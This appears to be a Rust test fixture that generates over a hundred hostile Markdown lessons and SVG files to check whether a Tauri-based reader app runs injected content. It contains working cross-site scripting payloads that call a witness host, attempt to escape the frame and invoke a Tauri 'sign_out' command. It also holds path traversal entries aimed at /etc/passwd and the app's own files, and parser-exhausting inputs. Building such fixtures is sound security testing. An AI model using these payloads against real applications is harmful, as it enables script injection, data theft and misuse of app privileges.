//! A hundred lessons a hostile school might write, each trying to run, to reach out, or to get at the app.

/// The words every lesson begins with, so that the one on screen is the one that was asked for.
pub fn begins(number: usize) -> String {
    format!("Hostile lesson {number} stands here.")
}

/// Runs wherever a script runs: leaves a mark, asks the witness, and tries the ways to the app.
fn payload(witness: &str) -> String {
    format!(
        "window.hit=1;document.title='hit';fetch('{witness}/ran');new Image().src='{witness}/ran';\
         parent.postMessage({{type:'carrel:hit'}},'*');try{{top.location='{witness}/top'}}catch(e){{}};\
         try{{top.__TAURI_INTERNALS__.invoke('call',{{name:'sign_out',args:null}})}}catch(e){{}}"
    )
}

/// Pictures that are more than a picture: name and text.
pub fn pictures(witness: &str) -> Vec<(String, String)> {
    let payload = payload(witness);
    let parts = [
        format!("<script>{payload}</script>"),
        format!("<script href=\"{witness}/svg.js\"/><image href=\"{witness}/image\" width=\"9\" height=\"9\"/>"),
        format!(
            "<foreignObject width=\"90\" height=\"90\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"{witness}/frame\"/></foreignObject>"
        ),
        format!("<style>@import url({witness}/svg.css); * {{ background: url({witness}/svg) }}</style>"),
        format!("<animate onbegin=\"{payload}\" attributeName=\"x\" dur=\"1s\"/><set onend=\"{payload}\"/>"),
        format!("<a href=\"javascript:{payload}\"><rect width=\"90\" height=\"90\"/></a>"),
        format!("<use href=\"{witness}/use.svg#x\"/><feImage href=\"{witness}/fe\"/>"),
        format!("<image href=\"file:///etc/passwd\"/><image href=\"{witness}/a.png\"/>"),
    ];
    let onload = payload.replace('"', "&quot;");
    let whole = parts.iter().enumerate().map(|(number, part)| {
        let text = format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"90\" height=\"90\" \
             onload=\"{onload}\">{part}<circle cx=\"40\" cy=\"40\" r=\"30\"/></svg>"
        );
        (format!("evil-{number}.svg"), text)
    });
    whole.collect()
}

/// The Markdown of every lesson.
pub fn lessons(witness: &str) -> Vec<String> {
    let mut bodies = Vec::new();
    for vector in vectors(witness) {
        for place in PLACES {
            bodies.push(place.replace("@", &vector));
        }
    }
    bodies.extend(pictures(witness).iter().map(|(name, _)| format!("![A picture](media/{name})")));
    bodies.extend(shapes(witness));
    // A hundred, and never less because somebody took a vector away.
    assert!(bodies.len() >= 100, "only {} hostile lessons", bodies.len());
    let whole = bodies.iter().enumerate().map(|(number, body)| format!("{}\n\n{body}\n", begins(number)));
    whole.collect()
}

/// Where in a text something can stand.
const PLACES: [&str; 3] = ["@", "> **Check yourself** Who?\n> @", "| a | b |\n|---|---|\n| x @ | y |"];

fn vectors(witness: &str) -> Vec<String> {
    let payload = payload(witness);
    let attribute = payload.replace('\'', "&#39;");
    let encoded: String = payload.bytes().map(|byte| format!("%{byte:02x}")).collect();
    vec![
        format!("<script>{payload}</script>"),
        format!("<script src=\"{witness}/x.js\"></script>"),
        format!("<img src=x onerror=\"{attribute}\">"),
        format!("<svg onload=\"{attribute}\"><script>{payload}</script></svg>"),
        format!("<math><mtext><table><mglyph><style><img src=x onerror=\"{attribute}\">"),
        format!("<iframe src=\"{witness}/frame\" srcdoc=\"<script>{attribute}</script>\"></iframe>"),
        format!("<object data=\"{witness}/object\"></object><embed src=\"{witness}/embed\">"),
        format!("<form action=\"{witness}/form\"><input autofocus onfocus=\"{attribute}\"><button>Go</button></form>"),
        format!("<meta http-equiv=\"refresh\" content=\"0;url={witness}/refresh\">"),
        format!(
            "<base href=\"{witness}/\"><link rel=\"stylesheet\" href=\"{witness}/base.css\"><link rel=\"prefetch\" href=\"{witness}/pre\">"
        ),
        format!(
            "<style>@import '{witness}/css'; main {{ background: url({witness}/bg) }} input[value^=a] {{ background: url({witness}/a) }}</style>"
        ),
        format!("<p style=\"background:url({witness}/inline);position:fixed;inset:0\">x</p>"),
        format!("<details open ontoggle=\"{attribute}\"><summary>x</summary></details>"),
        format!("<video autoplay src=\"{witness}/film\" onerror=\"{attribute}\"><source src=\"{witness}/s\"></video>"),
        format!("<body onload=\"{attribute}\" onpageshow=\"{attribute}\">"),
        format!("<marquee onstart=\"{attribute}\">x</marquee><input type=image src=\"{witness}/input\">"),
        format!("<template shadowrootmode=open><script>{payload}</script></template>"),
        format!("<noscript><p title=\"</noscript><img src=x onerror={attribute}>\"></noscript>"),
        format!("[a link](javascript:{encoded})"),
        format!("[a link](JaVa\tScRiPt:{encoded}) and <javascript:{encoded}>"),
        format!("[a link](data:text/html,<script>{encoded}</script>) ![p](data:image/svg+xml,<svg/onload={encoded}>)"),
        format!("![x]({witness}/picture.png) ![x](//{}/picture.png)", witness.trim_start_matches("http://")),
        format!("![x\"onerror=\"{encoded}](media/evil-0.svg \"t\\\" onload=\\\"{encoded}\")"),
        format!("[a](https://x.example/\"onmouseover=\"{encoded}) [b](tauri://localhost/) [c](file:///etc/passwd)"),
        format!(
            "<a href=\"{witness}/ping\" ping=\"{witness}/ping\" onclick=\"{attribute}\">x</a><img srcset=\"{witness}/set 1x\">"
        ),
        format!("<!--><script>{payload}</script>--> <![CDATA[<script>{payload}</script>]]> <?php {payload} ?>"),
        format!("```html\" onload=\"{attribute}\n<script>{payload}</script>\n```"),
        format!("<div popover id=p onbeforetoggle=\"{attribute}\">x</div><button popovertarget=p autofocus>x</button>"),
    ]
}

/// Texts that are hostile by their shape, and addresses that lead out of the pack.
fn shapes(witness: &str) -> Vec<String> {
    vec![
        "> ".repeat(3_000) + "deep",
        "- ".repeat(3_000) + "deep",
        "[".repeat(20_000),
        "![".repeat(10_000) + &"](x)".repeat(10_000),
        "*_".repeat(20_000) + "x",
        "<div>".repeat(20_000),
        "| a ".repeat(4_000) + "|\n" + &"|---".repeat(4_000) + "|\n" + &"| b ".repeat(4_000) + "|",
        "![Out](../../../../../../etc/passwd) ![Out](..%2f..%2f..%2fetc/passwd) ![Out](media/../../../carrel.json)"
            .to_owned(),
        "![Link](media/link.svg) ![Null](media/evil-0.svg%00.png) ![Back](..\\..\\carrel.json)".to_owned(),
        format!("[^1] {}\n\n[^1]: <script src=\"{witness}/note\"></script>", "&#x6A;avascript:".repeat(500)),
        format!("# <script>{}</script>\n\n## [x](javascript:alert)\n\n[up](#s-x\" onclick=\"x)", payload(witness)),
        "\u{202e}txet\u{202c} \u{0}\u{1}\u{feff} \u{200b}".repeat(200),
    ]
}
